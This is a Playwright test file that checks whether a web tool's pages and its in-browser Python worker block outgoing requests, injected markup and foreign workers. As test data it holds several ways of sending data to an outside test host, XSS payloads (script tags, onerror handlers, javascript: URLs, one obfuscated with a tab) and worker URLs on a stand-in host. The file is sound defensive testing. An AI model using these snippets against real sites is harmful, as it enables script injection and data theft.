"""Can anything leave a page, or become code in it, that should not? Tried in the page itself."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Worker

from scripts.static_server import serve
from tests.site.at_work import Desk
from tests.site.security.at_guard import Stranger

SENDS = {
    "fetch": "url => fetch(url).catch(() => 0)",
    "request": """url => new Promise(done => {
      const asked = new XMLHttpRequest(); asked.onloadend = done; asked.open("GET", url); asked.send() })""",
    "import": "url => import(url).catch(() => 0)",
    "socket": """url => new Promise(done => {
      try { new WebSocket(url.replace("http", "ws")).onerror = done } catch { done() } })""",
    "events": "url => new Promise(done => { new EventSource(url).onerror = done })",
}
PAGES_OWN = {
    "beacon": "url => navigator.sendBeacon(url, 'sold')",
    "picture": "url => new Promise(done => { const one = new Image(); one.onerror = done; one.src = url })",
    "frame": "url => { document.body.append(Object.assign(document.createElement('iframe'), { src: url })) }",
    "form": """url => { const form = document.createElement("form"); form.action = url
      document.body.append(form); form.submit() }""",
    "style": "url => { document.body.style.backgroundImage = `url(${url})` }",
    "base": """url => { document.head.append(Object.assign(document.createElement("base"), { href: url }))
      return fetch("x").catch(() => 0) }""",
}
ACTIVE = (
    "<script>stolen = true</script>",
    "<img src=x onerror='stolen = true'>",
    "<p><b><i onclick=''>",
    "<a href='javascript:stolen = true'>",
    "<a href='java\tscript:stolen = true'>",
    "<svg><script>stolen = true</script></svg>",
    "<math><mtext></mtext></math>",
    "<iframe srcdoc='<p>'></iframe>",
    "<object data=x></object>",
    "<base href='https://elsewhere.example/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.example/'>",
    "<link rel=stylesheet href=x>",
    "<style>p { color: red }</style>",
    "<form action='/elsewhere'><input></form>",
    "<form><button formaction='/elsewhere'></button></form>",
    "<template><script></script></template>",
)
QUIET = ("", "<p>1 &lt; 2</p>", "<form><input name=a></form>", "<a href='../'>x</a>", "<td>x", "onclick=1 javascript:")
STRANGE = (
    "https://elsewhere.example/worker.js",
    "/elsewhere/assets/scripts/worker.js",  # another site of the same host
    "../../../../../elsewhere.js",
    "data:text/javascript,stolen=true",
    "data:text/javascript,import%20%22https%3A%2F%2Felsewhere.example%2Fx.js%22",
    "javascript:stolen",
)
REFUSED = "text => { try { new Worker(text).terminate(); return false } catch { return true } }"
FILLED = "html => { try { document.createElement('div').innerHTML = html; return true } catch { return false } }"


@pytest.fixture(scope="module")
def opened(browser: Browser, served: str) -> Iterator[Page]:
    """One page for all tests here, which expect trouble."""
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(f"{served}en/tools/retention/")
    yield page
    context.close()


@pytest.fixture(scope="module")
def embedded(browser: Browser, served: str) -> Iterator[Page]:
    """An embed page likewise."""
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(f"{served}en/embed/tools/retention/")
    yield page
    context.close()


@pytest.fixture(scope="module")
def worker(opened: Page) -> Worker:
    """The worker in which the tool's Python lives."""
    with opened.expect_worker(lambda one: one.url.startswith("blob:")) as found:
        Desk(opened).field("customers").focus()
    Desk(opened).expect_state("ready")
    return found.value


@pytest.mark.parametrize("way", SENDS)
def test_nothing_leaves_the_worker_that_works_out_the_figures(worker: Worker, stranger: Stranger, way: str) -> None:
    """A worker that was started from a file would be free: a page's policy holds only for one that came with it."""
    worker.evaluate(SENDS[way], stranger.url)
    assert stranger.asked == []


@pytest.mark.parametrize("way", [way for way in SENDS | PAGES_OWN if way != "base"])
def test_without_a_policy_all_of_it_would_leave(
    page: Page, tmp_path: Path, stranger: Stranger, troubles: list[str], way: str
) -> None:
    """The tests beside this one prove something."""
    (tmp_path / "index.html").write_text('<link rel="icon" href="data:,">')
    with serve(tmp_path) as url:
        page.goto(url)
        page.evaluate((SENDS | PAGES_OWN)[way], stranger.url)
        page.wait_for_load_state("networkidle")
    assert stranger.asked
    troubles.clear()


@pytest.mark.parametrize("way", SENDS | PAGES_OWN)
@pytest.mark.parametrize("path", ["en/tools/retention/", "en/embed/tools/retention/"])
def test_nothing_leaves_a_page(browser: Browser, served: str, stranger: Stranger, path: str, way: str) -> None:
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(served + path)
    page.evaluate((SENDS | PAGES_OWN)[way], stranger.url)
    page.wait_for_load_state("networkidle")
    assert stranger.asked == []
    assert page.url == served + path
    context.close()


@pytest.mark.parametrize("code", ["eval('1')", "new Function('return 1')()", "setTimeout('stolen = true')"])
def test_no_text_is_run_in_the_worker(worker: Worker, code: str) -> None:
    """Tried a moment later: what a test asks for at once, the browser allows."""
    tried = f"try {{ {code}; done('ran') }} catch {{ done('refused') }}"
    assert worker.evaluate(f"() => new Promise(done => setTimeout(() => {{ {tried} }}))") == "refused"


@pytest.mark.parametrize("html", ACTIVE)
def test_markup_that_does_something_is_refused_whole(opened: Page, embedded: Page, html: str) -> None:
    for page in (opened, embedded):
        assert page.evaluate(FILLED, html) is False
        assert page.evaluate("() => globalThis.stolen") is None


@pytest.mark.parametrize("html", QUIET)
def test_markup_that_only_shows_something_is_let_through(opened: Page, embedded: Page, html: str) -> None:
    for page in (opened, embedded):
        assert page.evaluate(FILLED, html) is True


@pytest.mark.parametrize("address", STRANGE)
def test_a_worker_starts_from_this_copy_of_the_site_alone(opened: Page, embedded: Page, address: str) -> None:
    for page in (opened, embedded):
        assert page.evaluate(REFUSED, address) is True


def test_nobody_makes_a_policy_of_his_own(opened: Page, embedded: Page) -> None:
    make = "name => { try { trustedTypes.createPolicy(name, {}); return true } catch { return false } }"
    for page in (opened, embedded):
        assert [page.evaluate(make, name) for name in ("default", "peyvand", "mine")] == [False] * 3
